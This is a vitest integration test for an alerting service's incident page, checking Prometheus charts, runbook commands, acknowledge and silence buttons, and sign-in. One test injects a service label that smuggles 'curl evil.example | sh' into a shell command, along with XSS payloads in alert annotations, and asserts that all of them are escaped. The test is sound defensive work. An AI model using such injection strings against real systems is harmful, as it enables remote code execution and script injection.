// What somebody sees who follows the one link of a notification. Oracle: the real Prometheus, whose rules, versions and failures the page shows.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync, writeSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findPrometheus } from '../support/binaries.mjs'
import { freePorts, listen } from '../support/ports'
import { startServer } from '../support/server'
import { lacks, MINUTE, notify, type Stand, startStand, until, webhookOf } from './stand'

const found = findPrometheus()
const missing = [lacks, 'missing' in found ? found.missing : undefined].filter(Boolean).join('; ')
if (missing) writeSync(1, `skipped: page of an incident: ${missing}\n`)

const runbook = `# Burns

## First three commands

\`\`\`sh
npx afn-otel query '{ resource.service.name = "<service>" }'
\`\`\`

1. Look at \`<service>\` of <team>.
2. Go on.
`

async function pageOf(stand: Stand, more: object = {}, query = 'channel=ops', alert: object = {}) {
  mkdirSync(path.join(stand.folder, 'runbooks'), { recursive: true })
  writeFileSync(path.join(stand.folder, 'runbooks/Burns.md'), runbook)
  const receiver = await stand.start({ tickets: [], ...more })
  await notify(receiver, { name: 'Burns', labels: { team: 'pay' }, ...alert }, query)
  await stand.discord.until(({ posts }) => posts.length > 0)
  const [, place] = /http:\/\/localhost:9095(\/incidents\/[^)\s]+)/.exec(stand.discord.posts[0]!.text) ?? []
  const link = `${receiver.url}${place}`
  const answer = await fetch(link)
  return { receiver, link, answer, text: await answer.text() }
}

describe.skipIf(missing)('the page of an incident', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'afn-page-'))
  let app: Server
  let stop: () => Promise<void>
  let prometheusUrl: string

  beforeAll(async () => {
    if ('missing' in found) return
    let requests = 0
    let since = 0
    app = createServer((_, response) => {
      requests += 10
      since++
      const version = since > 4 ? '1.4.1' : '1.4.0'
      response.setHeader('content-type', 'text/plain; version=0.0.4')
      response.end(
        [
          `target_info{service_version="${version}"} 1`,
          'target_info{service_version="9.9.9",job="other"} 1',
          ...[
            ['/pay', 500],
            ['/<script>', 503],
            ['/users/anna@example.com', 502],
            ['/ok', 200],
          ].map(([route, status]) => `http_server_request_duration_seconds_count{http_route="${route}",http_request_method="POST",http_response_status_code="${status}"} ${requests}`), // biome-ignore format: one line
          `gen_ai_client_inference_duration_seconds_count{gen_ai_request_model="gpt-5",error_type="429"} ${requests}`,
          'shop_failing_ratio{environment="production"} 0.19',
          'shop_failing_ratio{environment="staging"} 0.77',
          '',
        ].join('\n'),
      )
    })
    const [appPort, [port]] = await Promise.all([listen(app), freePorts(1)])
    prometheusUrl = `http://127.0.0.1:${port}`
    const rule = (severity: string, factor: number) => ({
      alert: 'Burns',
      expr: `max(shop_failing_ratio > (${factor} * 0.001)) without (instance)\nand\nmax(shop_failing_ratio > 0) without (instance)`,
      labels: { severity },
    })
    writeFileSync(
      path.join(folder, 'rules.yml'),
      JSON.stringify({ groups: [{ name: 'g', rules: [rule('low', 1), rule('critical', 14.4)] }] }),
    )
    writeFileSync(
      path.join(folder, 'prometheus.yml'),
      JSON.stringify({
        global: { scrape_interval: '1s', evaluation_interval: '1s' },
        rule_files: ['rules.yml'],
        scrape_configs: [{ job_name: 'shop', honor_labels: true, static_configs: [{ targets: [`127.0.0.1:${appPort}`] }] }], // biome-ignore format: one line
      }),
    )
    stop = await startServer({
      binary: found.prometheus,
      args: [`--config.file=${folder}/prometheus.yml`, `--storage.tsdb.path=${folder}/data`, `--web.listen-address=127.0.0.1:${port}`], // biome-ignore format: one line
      folder,
      ready: `${prometheusUrl}/-/ready`,
    })
    await until('it was scraped some times', () => since > 8)
  }, 60_000)

  afterAll(async () => {
    await stop?.()
    app?.close()
    app?.closeAllConnections()
    rmSync(folder, { recursive: true, force: true })
  })

  it('has the picture with its threshold, the deploy, what fails with its traces, the runbook with its commands filled in, and buttons', async context => {
    const stand = await startStand(context)
    const traces = `afn-otel query '{ kind = server && duration > 2s }' --since 1h`
    const alert = { labels: { team: 'pay', environment: 'production' }, annotations: { summary: '19 % fail', traces } }
    const { link, answer, ...first } = await pageOf(stand, { prometheusUrl }, undefined, alert)
    expect(answer.status).toBe(200)
    let { text } = first
    // on a busy machine Prometheus may take longer than it has
    await until('Prometheus answers in time', async () => {
      if (!text.includes('did not answer') && text.includes('/pay') && text.includes('<svg')) return true
      stand.ahead += MINUTE / 2
      text = await (await fetch(link)).text()
      return false
    })
    // of this environment alone
    expect(text.match(/<svg/g)).toHaveLength(1)
    expect(text.match(/stroke-width="1.5"/g)).toHaveLength(1)
    expect(text).toContain('class="threshold"')
    expect(text).toContain('alert threshold: 0.0144')
    expect(text).toMatch(/Z · shop <b>1\.4\.1<\/b>/)
    expect(text).not.toContain('9.9.9')
    expect(text).toContain('POST /pay')
    expect(text).toContain('gpt-5')
    expect(text).not.toContain('/ok')
    const links = [...text.matchAll(/href="([^"]+)"/g)].map(([, href]) => decodeURIComponent(href!.replace(/&#38;/g, '&').replace(/&#34;|%22/g, '"').replace(/\+/g, ' '))) // biome-ignore format: one line
    expect(links.find(link => link.includes('/pay'))).toContain('resource.service.name = \\"shop\\" && status = error && span.http.route = \\"/pay\\"') // biome-ignore format: one line
    expect(links.some(link => link.includes('kind = server && duration > 2s'))).toBe(true)
    expect(text).toContain('npx afn-otel query &#39;{ resource.service.name = &#34;shop&#34; }&#39;')
    expect(text).toContain('<code>shop</code> of pay')
    expect(text).toContain('<button class="main" name="acknowledge"')
    for (const time of ['1h', '4h', '1d']) expect(text).toContain(`name="silence" value="${time}"`)
    expect(text.length).toBeLessThan(30_000)
    expect(text).not.toMatch(/<script|<img|javascript:|\son\w+=/i)
    expect(text).not.toContain('anna@example.com')
    expect(answer.headers.get('content-security-policy')).not.toContain('unsafe-inline')
  })

  it.for([
    ['is away', { status: 0 }],
    ['hangs', { status: 1 }],
    ['answers with 500', { status: 500 }],
    ['answers with something else', { status: 200 }],
  ] as const)('is there and says so where Prometheus %s', async ([, { status }], context) => {
    const stand = await startStand(context)
    const broken = createServer((_, response) => {
      if (status === 1) return
      response.writeHead(status === 0 ? 200 : status).end('<html>not Prometheus</html>')
    })
    const port = await listen(broken)
    if (status === 0) broken.close()
    context.onTestFinished(() => {
      broken.close()
      broken.closeAllConnections()
    })
    const { answer, text } = await pageOf(stand, { prometheusUrl: `http://127.0.0.1:${port}` })
    expect(answer.status).toBe(200)
    expect(text).toContain('Prometheus did not respond')
    expect(text).toContain('<button class="main" name="acknowledge"')
  })

  it('says who acknowledged it, and silences the group for as long as the button says', async context => {
    const stand = await startStand(context)
    const { link } = await pageOf(stand)
    const body = new URLSearchParams({ by: 'Aiko', silence: '4h' })
    const pressed = await (await fetch(link, { method: 'POST', body })).text()
    expect(pressed).toContain('by Aiko, ')
    await until('it is silent', () => stand.alertmanager.silences.length === 1)
    const [{ endsAt, createdBy, matchers }] = stand.alertmanager.silences as [(typeof stand.alertmanager.silences)[0]]
    expect(createdBy).toBe('Aiko')
    expect(matchers.map(({ name, value }) => `${name}=${value}`)).toEqual([
      'alertname=Burns',
      'service=shop',
      'severity=critical',
      'escalation=',
    ])
    expect(Math.round((Date.parse(endsAt) - Date.now()) / 3_600_000)).toBe(4)
    const again = await (await fetch(link)).text()
    expect(again).toContain('Silenced until')
    expect(again).not.toContain('name="acknowledge"')
  })

  it('is read by everybody who has the link of a mail, and acted on by whoever signs in', async context => {
    const stand = await startStand(context)
    const { url } = await stand.start({ tickets: [], token: 'secret' })
    const right = { authorization: 'Bearer secret', 'content-type': 'application/json' }
    const group = webhookOf({ name: 'Burns' }) as { alerts: { fingerprint: string }[] }
    await fetch(`${url}/alertmanager?channel=ops`, { method: 'POST', headers: right, body: JSON.stringify(group) })
    const read = await fetch(`${url}/alerts/${group.alerts[0]!.fingerprint}`)
    const page = await read.text()
    expect([read.status, page.includes('Burns'), page.includes('<form')]).toEqual([200, true, false])
    const [, signIn] = /href="(\/incidents\/[\da-f]{16}\/sign-in)"/.exec(page) ?? []
    const refused = await fetch(`${url}${signIn}`)
    expect([refused.status, refused.headers.get('www-authenticate')]).toEqual([401, expect.stringMatching(/^Basic/)])
    const basic = { authorization: `Basic ${Buffer.from('aiko:secret').toString('base64')}` }
    const signed = await fetch(`${url}${signIn}`, { headers: basic, redirect: 'manual' })
    expect(signed.status).toBe(303)
    const acting = await fetch(`${url}${signed.headers.get('location')}`)
    expect(await acting.text()).toContain('<form method="post">')
    expect((await fetch(`${url}/alerts/0000000000000000`)).status).toBe(404)
  })

  it('fills no label into a command that a shell would run, and shows no text of an alert as HTML', async context => {
    const stand = await startStand(context)
    const service = `x"; curl evil.example | sh #`
    const annotations = {
      summary: '<script>alert(1)</script> Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
      description: 'anna.schmidt@example.com "><img src=x onerror=alert(1)>',
      runbook_url: 'javascript:alert(1)',
      dashboard_url: 'https://grafana.example/"><script>',
    }
    const { text } = await pageOf(stand, {}, undefined, { service, annotations })
    expect(text).toContain('&#34;&#60;service&#62;&#34;')
    expect(text).not.toMatch(/<script|<img|javascript:|eyJhbGci|anna\.schmidt/)
  })

  it('speaks the language of the file', async context => {
    const stand = await startStand(context)
    const { text } = await pageOf(stand, { language: 'ja' })
    expect(text).toContain('<html lang="ja">')
    expect(text).toContain('対応を開始する')
  })
})
